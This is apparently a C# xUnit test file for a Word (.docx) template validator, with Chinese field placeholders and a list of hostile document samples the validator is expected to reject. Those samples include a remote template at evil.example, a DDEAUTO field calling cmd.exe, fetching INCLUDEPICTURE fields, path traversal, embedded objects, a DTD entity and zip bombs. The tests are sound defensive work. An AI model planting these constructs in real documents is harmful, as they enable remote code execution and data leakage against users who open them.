using System.IO.Compression;
using System.Text;
using Fachuang.Documents.Writing.Templates;
using Xunit;
using static Fachuang.Documents.Tests.Reading.DocxFiles;
using static Fachuang.Documents.Tests.Writing.Templates.TemplateFiles;

namespace Fachuang.Documents.Tests.Writing.Templates;

public sealed class DocxTemplateCheckTests
{
    /// <summary>A body, the field named, the place named, words in the answer.</summary>
    public static TheoryData<string, string, string, string> WrongFields => new()
    {
        { P("前") + P("") + P("{{单为}}"), "{{单为}}", "第 2 段", "是不是想写“单位”" },
        { P("{{完全不同的东西}}"), "{{完全不同的东西}}", "第 1 段", "可用的字段有：单位、标题" },
        { P(R("{{单", "<w:b/>") + R("为}}")), "{{单为}}", "第 1 段", "不是测试报告的字段" },
        { Tbl(Row("甲")) + P("") + Tbl(Row("甲"), Row("{{#任务}}{{单位}}{{/任务}}")), "{{单位}}", "表 2 第 2 行", "不是清单“任务”的字段" },
        { Tbl(Row("{{#任务}}{{得份}}{{/任务}}")), "{{得份}}", "表 1 第 1 行", "是不是想写“得分”" },
        { P("{{名称}}"), "{{名称}}", "第 1 段", "不是测试报告的字段" },
        { P("{{?达标}}") + P("甲"), "{{?达标}}", "第 1 段", "没有结尾" },
        { P("甲{{/达标}}"), "{{/达标}}", "第 1 段", "没有开头" },
        { Tbl(Row("{{#任务}}{{名称}}")), "{{#任务}}", "表 1 第 1 行", "没有结尾" },
        { P("{{?达标}}甲") + P("乙{{/达标}}"), "{{?达标}}", "第 1 段", "开头和结尾对不上" },
        { P("{{?达标}}") + Tbl(Row("{{/达标}}")), "{{?达标}}", "第 1 段", "开头和结尾对不上" },
        { Tbl(Tr(Tc(P("{{?达标}}甲") + P("乙{{/达标}}")))), "{{?达标}}", "表 1 第 1 行", "开头和结尾对不上" },
        { Tbl(Tr(Tc(P("{{?达标}}") + "<w:sdt><w:sdtContent>" + P("甲{{?单位}}") + "</w:sdtContent></w:sdt>" + P("乙{{/单位}}") + P("{{/达标}}")))), "{{?达标}}", "表 1 第 1 行", "只围住了一行的一部分" },
        { P("{{#任务}}{{名称}}{{/任务}}"), "{{#任务}}", "第 1 段", "不在表格的行里" },
        { P("{{#任务}}甲") + P("{{/任务}}"), "{{#任务}}", "第 1 段", "开头和结尾要各占单独一段" },
        { P("{{#任务}}") + P("{{单位}}") + P("{{/任务}}"), "{{单位}}", "第 2 段", "不是清单“任务”的字段" },
        { P("{{#任务}}") + Tbl(Row("{{/任务}}")), "{{#任务}}", "第 1 段", "不在表格的行里" },
        { Tbl(Row("{{#任务}}"), Row("{{名称}}"), Row("{{/任务}}", "合计")), "{{#任务}}", "表 1 第 1 行", "不在表格的行里" },
        { Tbl(Row("{{#任务}}{{#任务}}{{/任务}}{{/任务}}")), "{{#任务}}", "表 1 第 1 行", "清单里不能再有清单" },
        { Tbl(Row("{{#任务}}{{名称}}{{/任务}}", "{{单位}}")), "{{#任务}}", "表 1 第 1 行", "整行都会重复" },
        { P("{{任务}}"), "{{任务}}", "第 1 段", "是清单" },
        { P("{{达标}}"), "{{达标}}", "第 1 段", "只回答是或否" },
        { P("{{进度图}}"), "{{进度图}}", "第 1 段", "是图" },
        { P("见{{图:进度图}}"), "{{图:进度图}}", "第 1 段", "单独占一段" },
        { P("{{图:单位}}"), "{{图:单位}}", "第 1 段", "是文字" },
        { Tbl(Row("{{#单位}}甲{{/单位}}")), "{{#单位}}", "表 1 第 1 行", "是文字" },
        { P("{{ }}"), "{{}}", "第 1 段", "里没有名字" },
        { P("{{单位}") + P("甲"), "{{单位}", "第 1 段", "括号不完整" },
        { P("甲") + P("{{单位"), "{{单位", "第 2 段", "括号不完整" },
        { P("{{{{单位}}}}"), "{{", "第 1 段", "括号不完整" },
        { P("｛｛单位｝｝"), "｛｛单位｝｝", "第 1 段", "两个半角的" },
        { P(R("{{单") + "<w:r><w:br/></w:r>" + R("位}}")), "{{单 位}}", "第 1 段", "中间不能有换行" },
        { Box(P("甲") + P("{{单为}}")), "{{单为}}", "第 1 段的文本框", "是不是想写“单位”" },
        { P("<w:r><w:instrText>PAGE {{单位}}</w:instrText></w:r>"), "PAGE {{单位}}", "第 1 段", "不能填写的地方" },
    };

    [Fact]
    public void A_field_a_paper_cannot_do_without_is_missed_unless_it_is_written_outside_lists()
    {
        TemplateFields fields = new("证书", [new("编号", "证书的编号", TemplateFieldSort.Text) { IsRequired = true }, new("图", "二维码", TemplateFieldSort.Picture) { IsRequired = true }, .. Fields.Fields]);
        Assert.Equal(
            ["“{{编号}}”没有写进模板，证书一定要有（证书的编号）。", "“{{图:图}}”没有写进模板，证书一定要有（二维码）。"],
            DocxTemplate.Check(Docx(P("{{单位}}{{?编号}}有{{/编号}}")), fields).Select(problem => problem.Words));
        Assert.Empty(DocxTemplate.Check(Docx(P("第{{编号}}号") + P("{{图:图}}")), fields));
    }

    [Fact]
    public void An_edited_paper_may_hold_what_a_template_may_not_but_no_macros_and_must_be_a_docx()
    {
        Assert.Null(DocxTemplate.WhyNotDocument(Docx(P("甲"))));
        Assert.Null(DocxTemplate.WhyNotDocument(Hostile["tracked changes"].Make()));
        Assert.Null(DocxTemplate.WhyNotDocument(Hostile["a link outside"].Make()));
        Assert.All(
            (string[])["nothing", "words", "a broken zip", "a zip of something else", "a docm", "a dotx", "macros", "broken xml", "a tower", "a bomb", "much unpacked", "a large file", "a document type"],
            name => Assert.NotNull(DocxTemplate.WhyNotDocument(Hostile[name].Make())));
        Assert.Contains("有宏", DocxTemplate.WhyNotDocument(Hostile["macros"].Make()), StringComparison.Ordinal);
    }

    /// <summary>A file, words in the answer.</summary>
    public static TheoryData<string, string> WrongFiles => [.. Hostile.Select(file => (file.Key, file.Value.Words))];

    private static readonly Dictionary<string, (Func<byte[]> Make, string Words)> Hostile = new()
    {
        ["nothing"] = (() => [], "这不是 Word 文档"),
        ["words"] = (() => Encoding.UTF8.GetBytes("{{单位}}"), "这不是 Word 文档"),
        ["a broken zip"] = (() => [.. "PK\u0003\u0004"u8, .. new byte[500]], "已损坏"),
        ["a zip of something else"] = (() => Zip(("a.txt", "甲")), "这不是 Word 文档"),
        ["no field"] = (() => Docx(P("甲")), "一个字段也没有"),
        ["a docm"] = (() => DocxWith(main: "x", types: "<Override PartName=\"/a.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"), "有宏"),
        ["a dotx"] = (() => DocxWith(main: "template.main"), "dotx"),
        ["macros"] = (() => DocxWith([("word/vbaProject.bin", "x")]), "vbaProject.bin"),
        ["a relationship to macros"] = (() => DocxWith(relations: Relation("vbaProject", "vba.xml")), "有宏"),
        ["a remote template"] = (() => DocxWith(relations: Relation("attachedTemplate", "http://evil.example/t.dotm", isOutside: true)), "远程模板"),
        ["a remote picture"] = (() => DocxWith(relations: Relation("image", "http://evil.example/a.png", isOutside: true)), "http://evil.example/a.png"),
        ["a link outside"] = (() => DocxWith(relations: Relation("hyperlink", "https://evil.example", isOutside: true)), "https://evil.example"),
        ["a share"] = (() => DocxWith(relations: Relation("image", @"\\evil\a", isOutside: true)), "指向外部"),
        ["an object"] = (() => DocxWith(relations: Relation("oleObject", "o.xml")), "嵌入的对象"),
        ["an object element"] = (() => Docx(P("{{单位}}") + P("<w:r><w:object/></w:r>")), "嵌入的对象"),
        ["a foreign chunk"] = (() => Docx(P("{{单位}}") + "<w:altChunk r:id=\"rId7\"/>"), "夹带的文件"),
        ["a foreign chunk by relationship"] = (() => DocxWith(relations: Relation("aFChunk", "a.xml")), "夹带的文件"),
        ["a control"] = (() => Docx(P("{{单位}}<w:r/>") + P("<w:r><w:control/></w:r>")), "控件"),
        ["a part of a document elsewhere"] = (() => Docx(P("{{单位}}") + P("<w:subDoc r:id=\"rId7\"/>")), "子文档"),
        ["a program"] = (() => DocxWith([("word/media/a.exe", "x")]), "a.exe"),
        ["a path outside"] = (() => DocxWith([("../a.xml", "<a/>")]), "../a.xml"),
        ["a picture by address"] = (() => Docx(P("{{单位}}") + P("<w:r><w:pict><v:shape><v:imagedata src=\"http://evil.example/a.png\"/></v:shape></w:pict></w:r>")), "指向外部"),
        ["a field that fetches"] = (() => Docx(P("{{单位}}") + P("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE \"http://evil\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>")), "INCLUDEPICTURE"),
        ["a field that runs"] = (() => Docx(P("{{单位}}") + P("<w:fldSimple w:instr=\"DDEAUTO c:\\\\cmd.exe\"/>")), "DDEAUTO"),
        ["a field made of fields"] = (() => Docx(P("{{单位}}") + P("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>")), "QUOTE"),
        ["a link by field"] = (() => Docx(P("{{单位}}") + P("<w:fldSimple w:instr=\"HYPERLINK &quot;http://evil&quot;\"/>")), "HYPERLINK"),
        ["tracked changes"] = (() => Docx(P("{{单位}}") + "<w:p><w:ins w:id=\"1\" w:author=\"a\">" + R("甲") + "</w:ins></w:p>"), "未处理的修订"),
        ["a document type"] = (() => DocxWith([("word/a.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")]), "DTD"),
        ["broken xml"] = (() => DocxWith([("word/a.xml", "<a>")]), "已损坏"),
        ["a tower"] = (() => DocxWith([("word/a.xml", string.Concat(Enumerable.Repeat("<a>", 1000)) + string.Concat(Enumerable.Repeat("</a>", 1000)))]), "嵌套太深"),
        ["a field in a drawing"] = (() => DocxWith([("word/charts/chart1.xml", "<a>{{单位}}</a>")]), "word/charts/chart1.xml"),
        ["too many fields"] = (() => Docx(P(string.Concat(Enumerable.Repeat("{{单位}}", 2001)))), "超过 2000 处"),
        ["a paragraph without end"] = (() => Docx(P(string.Concat(Enumerable.Repeat("{{?达标}}甲{{/达标}}", 500)) + new string('x', 10_000))), "太长"),
        ["a bomb"] = (() => Bomb(600), "异常庞大"),
        ["much unpacked"] = (() => Bomb(65), "解开后"),
        ["a large file"] = (() => [.. "PK"u8, .. new byte[DocxTemplate.MostBytes]], "超过 10 MB"),
    };

    [Theory]
    [MemberData(nameof(WrongFields))]
    public void A_wrong_field_is_named_with_its_place(string body, string field, string place, string words)
    {
        var problem = Assert.Single(DocxTemplate.Check(Docx(body), Fields));
        Assert.Equal((field, place), (problem.Field, problem.Place));
        Assert.Contains(words, problem.Words, StringComparison.Ordinal);
        Assert.Contains(field, problem.Words, StringComparison.Ordinal);
        Assert.StartsWith(place, problem.Words, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(WrongFiles))]
    public void A_file_that_is_no_template_is_refused_with_words(string name, string words)
    {
        var problems = Problems(Hostile[name].Make());
        Assert.Contains(problems, problem => problem.Contains(words, StringComparison.Ordinal));
    }

    [Fact]
    public void All_problems_are_told_at_once_in_the_order_of_their_places()
    {
        var problems = DocxTemplate.Check(Everywhere(P("{{甲乙丙}}") + P("{{单位") + Tbl(Row("{{?达标}}")), P("{{眉}}"), Tbl(Row("{{脚}}")), P("{{注}}")), Fields);
        Assert.Equal(["第 1 段", "第 2 段", "表 1 第 1 行", "页眉第 1 段", "页脚表 1 第 1 行", "脚注第 1 段"], problems.Select(problem => problem.Place).OrderBy(place => place.Length > 0 ? Array.IndexOf(["第", "表", "页眉", "页脚", "脚注"], Head(place)) : -1).ThenBy(place => place, StringComparer.Ordinal));

        static string Head(string place) => place.StartsWith("页", StringComparison.Ordinal) || place.StartsWith("脚", StringComparison.Ordinal) ? place[..2] : place[..1];
    }

    [Fact]
    public void What_a_word_processor_itself_writes_is_no_problem() => Assert.Empty(Problems(Docx(
        P("{{单位}}") + P("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> TOC \\o \"1-3\" \\h \\z </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
            + "<w:hyperlink w:anchor=\"_Toc1\"><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGEREF _Toc1 \\h </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:hyperlink><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>")
        + P("<w:fldSimple w:instr=\" HYPERLINK \\l &quot;a&quot; \"/><w:fldSimple w:instr=\" PAGE \\* MERGEFORMAT \"/>"))));

    [Fact]
    public void Signs_of_a_chinese_keyboard_are_taken_as_meant() =>
        Assert.Empty(Problems(Docx(P("{{？达标}}甲{{／达标}}") + Tbl(Row("{{＃任务}}{{名称}}{{／任务}}")) + P("{{图：进度图}}"))));

    [Fact]
    public void Random_bytes_in_a_template_never_throw()
    {
        var good = Everywhere(P("{{单位}}") + Tbl(Row("{{#任务}}{{名称}}{{/任务}}")), P("眉"), P("脚"), P("注"));
        var random = new Random(7);
        for (var turn = 0; turn < 400; turn++)
        {
            var bytes = good.ToArray();
            for (var i = random.Next(1, 6); i > 0; i--)
            {
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            }

            if (DocxTemplate.Check(bytes, Fields).Count == 0)
            {
                DocxTemplate.Fill(bytes, Fields, new Dictionary<string, TemplateValue> { ["单位"] = Text("某局") });
            }
        }
    }

    [Fact]
    public void Random_marks_in_random_places_are_either_named_as_wrong_or_filled_without_a_trace()
    {
        string[] marks = ["{{单位}}", "{{?达标}}", "{{/达标}}", "{{#任务}}", "{{/任务}}", "{{名称}}", "{{?逾期}}", "{{/逾期}}", "{{图:进度图}}", "{{图:条}}", "{{?单位}}", "{{/单位}}", "甲", "{{?达标}}甲{{单位}}{{/达标}}", "{{?单位}}{{?达标}}{{单位}}{{/达标}}{{/单位}}", "{{#任务}}{{?逾期}}{{名称}}{{/逾期}}{{得分}}{{/任务}}"];
        var (random, filled) = (new Random(11), 0);
        for (var turn = 0; turn < 9000; turn++)
        {
            var template = Docx(string.Concat(Enumerable.Range(0, random.Next(1, 4)).Select(_ => random.Next(2) == 0 ? Some() : Tbl([.. Enumerable.Range(0, random.Next(1, 4)).Select(_ => Tr(Tc(Some()) + Tc(Some())))]))) + P("尾"));
            if (DocxTemplate.Check(template, Fields).Count > 0)
            {
                continue;
            }

            filled++;
            var made = DocxTemplate.Fill(template, Fields, new Dictionary<string, TemplateValue> { ["单位"] = Text(random.Next(2) == 0 ? "" : "某\n局"), ["达标"] = Yes(random.Next(2) == 0), ["任务"] = Rows([.. Enumerable.Range(0, random.Next(3)).Select(i => ("名\n称", $"{i}"))]) });
            AssertValid(made);
            Assert.DoesNotContain("{{", Part(made).Value, StringComparison.Ordinal);
        }

        Assert.InRange(filled, 200, 8999);

        string Some() => string.Concat(Enumerable.Range(0, random.Next(1, 3)).Select(_ => P(string.Concat(Enumerable.Range(0, random.Next(0, 3)).Select(_ => marks[random.Next(marks.Length)])))));
    }

    private static byte[] DocxWith((string, string)[]? parts = null, string types = "", string relations = "", string main = "document.main") => Docx(P("{{单位}}"), parts, types, relations, main);

    private static byte[] Bomb(int megabytes)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            var block = new byte[1024 * 1024];
            new Random(1).NextBytes(block.AsSpan(0, 4096));
            for (var part = 0; part < (megabytes + 14) / 15; part++)
            {
                using var entry = zip.CreateEntry($"word/media/{part}.png", CompressionLevel.Fastest).Open();
                for (var i = 0; i < 15; i++)
                {
                    entry.Write(block);
                }
            }
        }

        return stream.ToArray();
    }
}
